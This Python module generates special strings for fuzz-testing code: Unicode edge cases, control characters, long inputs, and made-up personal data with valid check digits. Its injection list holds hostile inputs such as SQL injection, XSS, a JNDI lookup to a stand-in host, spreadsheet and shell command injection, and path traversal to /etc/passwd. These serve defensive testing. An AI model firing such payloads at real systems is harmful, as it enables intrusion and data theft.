"""Texts that break programs, and texts that look like somebody: for leaves that must not show."""

import random
from typing import Final

COMBINING: Final = ("e\u0301\u0302\u0303", "Z\u0351\u036b\u0343\u036a", "\u0344\u0344", "a\u20dd")
BIDI: Final = ("\u202etxt.exe", "\u2066abc\u2069", "\u200f\u05e9\u05dc\u05d5\u05dd", "\u061c12")
INVISIBLE: Final = ("a\u200bb", "a\u200db", "\ufeffx", "x\u2060y", "\u00ad", "\u3164", "\u180e")
# assigned by no version of Unicode so far, or never: noncharacters, private use, plane 14
UNASSIGNED: Final = (
    "\u0378",
    "\u05ff",
    "\uffff",
    "\U0001fffe",
    "\U000e0fff",
    "\ue000",
    "\U0010ffff",
)
CONTROL: Final = ("\x00", "a\x00b", "\x1b[31m", "\x7f", "\u0085", "\u2028", "\t\n\v\f\r")
FOLDING: Final = (
    "ß",
    "ẞ",
    "\u0131",
    "İ",
    "ﬀ",
    "\u017f",
    "\u212a",
    "\u1100\u1161",
    "가",
    "\ufdfa",
    "Ⅷ",
    "①２３",
)
INJECTION: Final = (
    "'; DROP TABLE customers;--", '" OR 1=1 --', "=HYPERLINK(A1)", "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)", "x\r\nhomeport-plan: 00", "x\r\n\r\n<html>", '{"a":"b"}],"c":{', "</script>",
    "<img src=x onerror=alert(1)>", "${jndi:ldap://x.example/a}", "#{7*7}", "{{7*7}}", "%s%n%x%p",
    "{0.__class__}", "../../etc/passwd", "$(reboot)", "`id`", "a;b|c&d", "\\u0000", "%00", "%0d%0a",
    "--- !!python/object", "<!ENTITY x SYSTEM 'file:///'>", "tok_eu1_aaaaaaaaaaaaaaaaaaaaaaaaaa",
    "tok_us9_77777777777777777777777777", "null", "NaN", "-0", "true", "NO", "1e309",
)  # fmt: skip
# published examples and test numbers, and made-up ones with the right check digits
PERSONAL: Final = (
    "ada.lovelace@example.org", "GRACE@EXAMPLE.COM", "o'brien+tag@mail.example",
    "用户@例子.example",
    "+49 30 901820", "0049 30 901820", "+1 202-555-0143", "020 7946 0018", "+33123456789",
    "4111 1111 1111 1111", "5500005555555559", "340000000000009", "6011000990139424",
    "DE89 3704 0044 0532 0130 00", "GB82WEST12345698765432", "FR1420041010050500013M02606",
    "QQ123456C", "078-05-1120", "943 476 5919", "44051401359", "RSSMRA85T10A562S", "12345678Z",
    "65 929 970 489", "131052-308T", "811218-9876", "1 84 12 76 451 089 46", "BSN 111222333",
    "192.0.2.17", "2001:db8::17", "00:00:5e:00:53:af", "10115", "SW1A 1AA", "1970-01-01",
    "Ada Lovelace", "12 St James's Square, London",
)  # fmt: skip
SPECIAL: Final = (
    "", " ", *COMBINING, *BIDI, *INVISIBLE, *UNASSIGNED, *CONTROL, *FOLDING, *INJECTION, *PERSONAL,
)  # fmt: skip
ALPHABETS: Final = (
    "0123456789", "abcdefghijklmnopqrstuvwxyz", "ABCXYZ019-", "éüñçøß", "абвгд", "漢字仮名",
    "😀👩‍👩‍👧🏽",
    "\u0300\u0301\u0302", "\u200b\u200c\u200d", "\u202a\u202e\u2066", "\x00\x01\x1f ",
    "=+-@\"',;<>&%$",
)  # fmt: skip
# characters; around what our own code treats apart (64, 255, 1,024), then up to 64 k
LONG: Final = (63, 64, 128, 255, 256, 1_023, 1_024, 1_025, 4_096, 16_384, 65_535)
LARGE = 4_096  # characters; fewer of these, as they take most of the time
SHORT = 24  # characters of a random text, at most


def atoms(rng: random.Random, count: int) -> list[str]:
    """Return the special texts, *count* random ones and a few long ones."""
    made = list(SPECIAL)
    made += [_random(rng, rng.randrange(1, SHORT)) for _ in range(count)]
    made += [personal(rng) for _ in range(count)]
    for size in LONG:
        for alphabet in rng.sample(ALPHABETS, 2 if size < LARGE else 1):
            unit = "".join(rng.choices(alphabet, k=8))
            made.append((unit * (size // 8 + 1))[:size])
    return made


def personal(rng: random.Random) -> str:
    """Return a made-up e-mail address, phone number, card number or account."""
    digits = "".join(rng.choices("0123456789", k=16))
    word = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randrange(3, 9)))
    kind = rng.randrange(4)
    if kind == 0:
        return f"{word}.{digits[:3]}@{rng.choice(['mail', 'Example', 'xn--fsq'])}.example"
    if kind == 1:
        return f"+{rng.choice(['49', '44', '1', '33', '353'])}{digits[:10]}"
    if kind == 2:  # noqa: PLR2004
        return digits[:15] + _luhn(digits[:15])
    return f"{rng.choice(['DE', 'NL', 'ES'])}{digits}"


def _luhn(digits: str) -> str:
    """Return the check digit of a card number; ISO/IEC 7812-1 annex B."""
    doubled = [int(d) * (2 - n % 2) for n, d in enumerate(digits)]
    return str(-sum(d - 9 * (d > 9) for d in doubled) % 10)  # noqa: PLR2004


def _random(rng: random.Random, size: int) -> str:
    return "".join(rng.choices(rng.choice(ALPHABETS), k=size))
